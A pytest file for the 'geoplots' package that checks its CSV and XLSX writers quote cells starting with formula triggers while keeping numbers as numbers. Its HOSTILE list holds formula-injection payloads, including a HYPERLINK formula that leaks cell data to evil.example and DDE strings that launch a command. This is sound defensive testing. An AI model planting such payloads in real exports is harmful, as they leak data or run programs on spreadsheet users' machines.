"""Spreadsheet formula injection (issue 10, item 8): no text cell geoplots writes to a CSV
or XLSX file starts a formula; numbers stay numbers.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (also after
leading spaces) gets a single quote in front (OWASP), unless the whole cell is a plain
number such as ``-5`` or ``+66812345678``, which a spreadsheet reads as a number.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from geoplots.writers import safe_cell, spreadsheet_safe, write_frame

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+1+2",
    "-1+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    " =3+3",
    "-",
]


def _run(*args: str, data: Path) -> subprocess.CompletedProcess:
    """``geoplots ARGS`` in a child process whose default boundaries are ``data``."""
    env = {**os.environ, "GEOPLOTS_DATA": str(data)}
    return subprocess.run(
        [sys.executable, "-c", "from geoplots.cli import main; main()", *args], capture_output=True, text=True,
        env=env,
    )


def _is_plain_number(text: str) -> bool:
    return re.fullmatch(r"\s*[+-]?(?:[0-9]+\.?[0-9]*|\.[0-9]+)(?:[eE][+-]?[0-9]+)?\s*", text) is not None


def _dangerous(text: str) -> bool:
    return (text[:1] in ("\t", "\r") or text.lstrip(" \n")[:1] in TRIGGERS) and not _is_plain_number(text)


def _csv_cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh))


def _assert_csv_safe(path: Path) -> list[list[str]]:
    rows = _csv_cells(path)
    bad = [cell for row in rows for cell in row if _dangerous(cell)]
    assert not bad, bad
    return rows


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("+1+2", "'+1+2"),
    ("-1+2", "'-1+2"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("  =1", "'  =1"),
    ("-", "'-"),
    ("-5", "-5"),  # a plain number: a spreadsheet reads it as the number it is
    ("-5.25", "-5.25"),
    ("+66812345678", "+66812345678"),
    ("1e-5", "1e-5"),
    ("-1e5", "-1e5"),
    ("บ้านโนน", "บ้านโนน"),
    ("a=1", "a=1"),
    (-5, -5),
    (-2.5, -2.5),
    (None, None),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_spreadsheet_safe_keeps_numbers_and_missing_values():
    frame = pd.DataFrame({
        "=HEAD()": ["=1", "ok"],
        "n": [-5, 3],
        "x": [-1.5, float("nan")],
        "s": pd.array(["@a", None], dtype="string"),
        "mixed": ["-2+3", 7],
    })
    out = spreadsheet_safe(frame)
    assert list(out.columns) == ["'=HEAD()", "n", "x", "s", "mixed"]
    assert out["'=HEAD()"].tolist() == ["'=1", "ok"]
    assert out["n"].tolist() == [-5, 3] and out["n"].dtype == frame["n"].dtype
    assert out["x"].iloc[0] == -1.5 and pd.isna(out["x"].iloc[1])
    assert out["s"].iloc[0] == "'@a" and pd.isna(out["s"].iloc[1]) and out["s"].dtype == frame["s"].dtype
    assert out["mixed"].tolist() == ["'-2+3", 7]
    assert frame["=HEAD()"].tolist() == ["=1", "ok"]  # the caller's frame is left as it was


def _hostile_pins(tmp_path: Path, boundaries) -> Path:
    from geoplots import synthetic

    pts = synthetic.sample_points(len(HOSTILE) + 2, codes=["40"], seed=11, boundaries=boundaries)
    rows = [["id", "name", "lat", "lon", "=HEADER()", "amount"]]
    for i, text in enumerate(HOSTILE):
        rows.append([text, text, f"{pts['lat'].iloc[i]:.6f}", f"{pts['lon'].iloc[i]:.6f}", text, "-5"])
    rows.append(["R-1", HOSTILE[0], "", "102.8", HOSTILE[1], "-7.5"])  # rejected: no latitude
    rows.append(["R-2", HOSTILE[2], "abc", "102.8", HOSTILE[4], "@x"])  # rejected: unreadable
    src = tmp_path / "hostile.csv"
    with open(src, "w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return src


@pytest.mark.parametrize("command", ["check", "join"])
def test_cli_csv_outputs_neutralise_formulas(boundary_dir, boundaries, tmp_path, command):
    src = _hostile_pins(tmp_path, boundaries)
    out, rej = tmp_path / "out.csv", tmp_path / "rejects.csv"
    done = _run(command, str(src), "--out", str(out), "--rejects", str(rej), data=boundary_dir)
    assert done.returncode == 0, done.stderr
    accepted = _assert_csv_safe(out)
    rejects = _assert_csv_safe(rej)
    assert "'=HEADER()" in accepted[0] and "'=HEADER()" in rejects[0]
    table = pd.DataFrame(accepted[1:], columns=accepted[0])
    assert len(table) == len(HOSTILE)
    # every hostile text is there, quoted, not dropped or altered otherwise
    assert sorted(table["name"]) == sorted("'" + t for t in HOSTILE)
    assert (table["amount"] == "-5").all()  # plain negative numbers untouched
    assert sorted(table["'=HEADER()"]) == sorted("'" + t for t in HOSTILE)
    bad = pd.DataFrame(rejects[1:], columns=rejects[0])
    assert sorted(bad["name"]) == sorted("'" + t for t in (HOSTILE[0], HOSTILE[2]))
    assert set(bad["amount"]) == {"-7.5", "'@x"}


def test_data_formats_keep_the_text_as_sent(tmp_path):
    """GeoPackage and Parquet are data, not spreadsheets: the text is kept byte for byte."""
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})
    back = pd.read_parquet(write_frame(frame, tmp_path / "x.parquet"))
    assert back["name"].tolist() == HOSTILE


def _hostile_coverage(boundaries):
    import geoplots

    villages = geoplots.synthetic.model_villages(["12"], seed=2, boundaries=boundaries)
    result = geoplots.coverage(villages, level="district", zone="12", boundaries=boundaries)
    units = result.units.copy()
    units["name_th"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(units))]
    units["name_en"] = HOSTILE[1]
    result.units = units
    result.summary["uncovered"] = [[HOSTILE[0], HOSTILE[3]] for _ in range(len(result.summary))]
    result.title = HOSTILE[2]
    result.notes = {"=note()": HOSTILE[4], "figure": -12}
    return result


def test_xlsx_report_neutralises_formulas_and_keeps_numbers(boundaries, tmp_path):
    from geoplots.counting import write_coverage

    result = _hostile_coverage(boundaries)
    path = write_coverage(result, tmp_path / "report.xlsx", boundaries=boundaries)
    book = openpyxl.load_workbook(path)
    texts, numbers = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                elif isinstance(cell.value, (int, float)):
                    numbers.append(cell.value)
    assert not [t for t in texts if _dangerous(t)]
    assert "'" + HOSTILE[0] in texts  # a unit name
    assert any(t.startswith("'" + HOSTILE[2]) for t in texts)  # the title (then the area)
    assert "'=note()" in texts and "'" + HOSTILE[4] in texts
    assert -12 in numbers  # a negative number stays a number
    zone = book["เขตตรวจราชการที่ 12"]
    header = [c.value for c in zone[1]]
    counts = [row[header.index("จำนวน (count)")] for row in zone.iter_rows(min_row=2, values_only=True)]
    assert counts and all(isinstance(v, int) for v in counts)


def test_csv_coverage_report_neutralises_formulas(boundaries, tmp_path):
    from geoplots.counting import write_coverage

    result = _hostile_coverage(boundaries)
    rows = _assert_csv_safe(write_coverage(result, tmp_path / "report.csv"))
    names = [r[rows[0].index("name_th")] for r in rows[1:]]
    assert "'" + HOSTILE[0] in names


def test_line_breaks_inside_a_cell_never_start_a_row(tmp_path):
    """A lone CR or LF inside a cell is quoted (rows end in CR LF), so no new row can
    begin in the middle of a cell with a formula."""
    frame = pd.DataFrame({"name": ["ok\r=1+1", "ok\n@SUM(A1)", "ok\r\n-2+3"], "n": [1, 2, 3]})
    path = write_frame(frame, tmp_path / "breaks.csv")
    rows = _assert_csv_safe(path)
    assert rows == [["name", "n"], ["ok\r=1+1", "1"], ["ok\n@SUM(A1)", "2"], ["ok\r\n-2+3", "3"]]
    assert path.read_bytes().count(b"\r\n") == 5  # 4 rows + the one inside a cell


def test_docstring_examples():
    import doctest

    import geoplots.writers

    result = doctest.testmod(geoplots.writers)
    assert result.attempted > 0 and result.failed == 0
